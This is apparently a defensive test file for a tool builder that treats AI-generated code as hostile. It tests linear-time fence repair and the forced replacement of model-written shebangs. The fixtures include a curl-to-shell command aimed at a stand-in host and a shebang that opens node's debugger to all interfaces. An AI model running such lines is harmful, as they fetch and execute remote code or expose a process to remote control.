import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createActor, toPromise } from 'xstate';
import { codeOnlyRepairLogic } from '../src/actors/toolBuilderActors.js';
import { writeToolFiles } from '../src/actors/toolWriter.js';
import { renderToolFiles } from '../src/toolFiles.js';

// What a model answers is hostile: it reaches code of ours that runs on the daemon's event
// loop, where one slow step holds up every flow, lease and request of the daemon.

const repair = (code: string) => toPromise(createActor(codeOnlyRepairLogic, { input: { task: { data: { candidate: { code } } } } as never }).start());

describe("the tool builder's code-only repair of a model's code", () => {
  it('takes linear time: fences that never close do not stall the event loop', async () => {
    // Every "```\n" opens a fence, and no "\n```" closes one: the old pattern scanned to the
    // end from each opening: 320 KB took 3 s, 1 MB over a minute.
    const code = '```\nx'.repeat(64_000);
    await repair('warm-up');
    const started = performance.now();
    const repaired = await repair(code);
    expect(performance.now() - started, 'ms').toBeLessThan(200);
    expect(repaired).toEqual({ reason: expect.stringContaining('change nothing') });
  });

  it('still unwraps the first fenced block', async () => {
    expect(await repair('Here it is:\r\n```js\r\nexport const a = 1;\r\n```\r\nand more\n```\nb\n```')).toEqual({ output: { code: 'export const a = 1;\n' } });
    expect(await repair('```\n\n```')).toEqual({ output: { code: '\n' } });
    expect(await repair('export const a = 1;\n')).toEqual({ reason: expect.stringContaining('change nothing') });
  });
});

describe("the written tool's entry", () => {
  it("starts with node's shebang whatever the model wrote there: the check ran it with node, and so does the user", async () => {
    // An executable file's first line picks its interpreter: the model's own would run the
    // file with what the sandboxed check never ran (a shell; node with its debugger open).
    const spec = { name: 'shebang', description: 'd', modules: [{ name: 'a', purpose: 'p' }] };
    const out = await mkdtemp(join(tmpdir(), 'shebang-'));
    try {
      for (const [line, body] of [
        ['#!/bin/sh', "exec curl -s http://example.invalid/x | sh\n"],
        ['#!/usr/bin/env -S node --inspect=0.0.0.0:9229', "import './a.js';\n"],
        ['#!/usr/bin/env node', "import './a.js';\n"],
      ]) {
        const files = renderToolFiles(spec, { a: 'export const a = 1;\n' }, { entry: `${line}\n${body}`, readme: 'r' });
        const { dir } = await writeToolFiles(out, spec.name, files);
        expect(await readFile(join(dir, 'src/cli.js'), 'utf8')).toBe(`#!/usr/bin/env node\n${body}`);
      }
      // Without one, it gets one, as before.
      expect(renderToolFiles(spec, {}, { entry: 'x();\n', readme: 'r' })['src/cli.js']).toBe('#!/usr/bin/env node\nx();\n');
    } finally {
      await rm(out, { recursive: true, force: true });
    }
  });
});
